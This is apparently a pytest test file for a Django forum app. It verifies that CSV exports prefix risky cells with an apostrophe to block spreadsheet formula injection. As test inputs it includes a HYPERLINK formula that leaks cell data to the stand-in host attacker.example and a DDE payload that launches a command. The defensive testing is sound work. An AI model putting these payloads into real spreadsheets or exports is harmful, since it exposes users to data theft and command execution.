"""CSV exports cannot carry a formula into the reader's spreadsheet: a text cell that starts with
`=`, `+`, `-` or `@` (or a tab or carriage return) is written with a leading `'`, in every
export; numbers stay numbers."""

import csv
import datetime
import io
import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from migforum.core import csv_export
from migforum.core.csv_export import BOM, FORMULA_STARTS, CsvWriter, safe_cell
from migforum.evidence.choices import DatasetKind, Indicator
from migforum.meetings.models import Delegate, Meeting, Registration, RegistrationStatus
from migforum.practices import finder
from migforum.practices.models import Practice
from migforum.practices.services import practice_create

from ..evidence.opendata_factories import DatasetFactory, ObservationFactory, QuoteFactory
from ..practices.conftest import remittance_content

FORMULA = '=HYPERLINK("https://attacker.example/?"&A1,"Open")'


def written(row: list) -> list[str]:
    out = io.StringIO()
    CsvWriter(out).writerow(row)
    return next(csv.reader(io.StringIO(out.getvalue())))


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        (FORMULA, "'" + FORMULA),
        ("+33 1 23 45 67 89", "'+33 1 23 45 67 89"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Savings = less cost", "Savings = less cost"),
        ("", ""),
    ],
)
def test_a_text_cell_that_could_start_a_formula_is_marked_as_text(cell, expected):
    assert written([cell]) == [expected]


def test_numbers_stay_numbers():
    assert written([-3.5, -12, 0, None, 4.25]) == ["-3.5", "-12", "0", "", "4.25"]


@given(st.text())
def test_no_written_text_cell_starts_a_formula(text):
    cell = safe_cell(text)
    assert not cell.startswith(FORMULA_STARTS)
    assert cell in (text, "'" + text)


@pytest.fixture
def fresh_facet_index():
    """The database is rolled back after the test; the facets held in memory must follow."""
    finder.reset_facet_index()
    yield
    finder.reset_facet_index()


@pytest.mark.django_db
@pytest.mark.usefixtures("fresh_facet_index")
def test_the_practices_export_marks_formulas_as_text(as_user, focal_point_of_morocco, morocco):
    practice = practice_create(
        by=focal_point_of_morocco,
        owner=morocco,
        content=remittance_content(title=FORMULA, implementer_name="@Ministry"),
    )
    response = as_user(focal_point_of_morocco).get("/practices/export.csv")
    text = b"".join(response.streaming_content).decode()
    assert text.startswith(BOM)
    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(text.removeprefix(BOM)))}
    row = rows[str(practice.pk)]
    assert row["title"] == "'" + FORMULA
    assert row["implementer"] == "'@Ministry"
    assert row["start_year"] == "2004"
    assert Practice.objects.get(pk=practice.pk).title == FORMULA  # stored as written


@pytest.mark.django_db
def test_the_badges_mark_formulas_as_text(secretariat_client, morocco):
    meeting = Meeting.objects.create(
        kind="round_table",
        title="Round table",
        start_date=datetime.date(2030, 5, 4),
        end_date=datetime.date(2030, 5, 5),
    )
    registration = Registration.objects.create(
        meeting=meeting,
        state=morocco,
        status=RegistrationStatus.APPROVED,
        credential="credentials/x.pdf",
    )
    Delegate.objects.create(registration=registration, name=FORMULA, function="-Minister")
    response = secretariat_client.get(f"/meetings/{meeting.pk}/badges.csv")
    text = b"".join(response.streaming_content).decode()
    assert text.startswith(BOM)
    rows = list(csv.reader(io.StringIO(text.removeprefix(BOM))))
    assert rows[0] == [
        "reference",
        "meeting",
        "state_iso3",
        "state",
        "name",
        "function",
        "category",
    ]
    assert rows[1][2:6] == ["MAR", "Morocco", "'" + FORMULA, "'-Minister"]


@pytest.mark.django_db
def test_the_evidence_downloads_mark_text_formulas_and_keep_negative_values(client):
    dataset = DatasetFactory(kind=DatasetKind.PRICE_QUOTES, vintage="=cmd|' /C calc'!A0")
    ObservationFactory(
        dataset=dataset, indicator=Indicator.MIGRANT_STOCK_GROWTH, country="MAR", value=-1.25
    )
    QuoteFactory(dataset=dataset, firm="@SUM(1+1)", product="+Transfer")

    observations = b"".join(
        client.get(f"/evidence/datasets/{dataset.pk}/observations.csv").streaming_content
    ).decode()
    assert observations.startswith(BOM)
    row = next(csv.DictReader(io.StringIO(observations.removeprefix(BOM))))
    assert row["value"] == "-1.25"
    assert row["vintage"] == "'=cmd|' /C calc'!A0"

    quotes = b"".join(
        client.get(f"/evidence/datasets/{dataset.pk}/quotes.csv").streaming_content
    ).decode()
    assert quotes.startswith(BOM)
    quote = next(csv.DictReader(io.StringIO(quotes.removeprefix(BOM))))
    assert (quote["firm"], quote["product"]) == ("'@SUM(1+1)", "'+Transfer")


def test_a_csv_file_starts_with_the_byte_order_mark_and_is_whole_in_any_chunks(monkeypatch):
    monkeypatch.setattr(csv_export, "CHUNK_SIZE", 50)
    rows = [(n, f"Row {n}", ["MAR:origin", "ESP:destination"], None) for n in range(40)]

    chunks = list(csv_export.csv_chunks(("id", "title", "countries", "note"), rows))

    assert len(chunks) > 1
    text = "".join(chunks)
    assert text.startswith(BOM)
    read = list(csv.reader(io.StringIO(text.removeprefix(BOM))))
    assert read[0] == ["id", "title", "countries", "note"]
    assert read[1:] == [[str(n), f"Row {n}", "MAR:origin; ESP:destination", ""] for n in range(40)]


def test_a_json_file_holds_its_head_and_every_record_in_any_chunks(monkeypatch):
    monkeypatch.setattr(csv_export, "CHUNK_SIZE", 50)
    records = [{"id": n, "day": datetime.date(2030, 1, n + 1)} for n in range(20)]

    chunks = list(csv_export.json_chunks("rows", records, head={"total": 20}))

    assert len(chunks) > 1
    assert json.loads("".join(chunks)) == {
        "total": 20,
        "rows": [{"id": n, "day": f"2030-01-{n + 1:02}"} for n in range(20)],
    }
    assert json.loads("".join(csv_export.json_chunks("rows", []))) == {"rows": []}
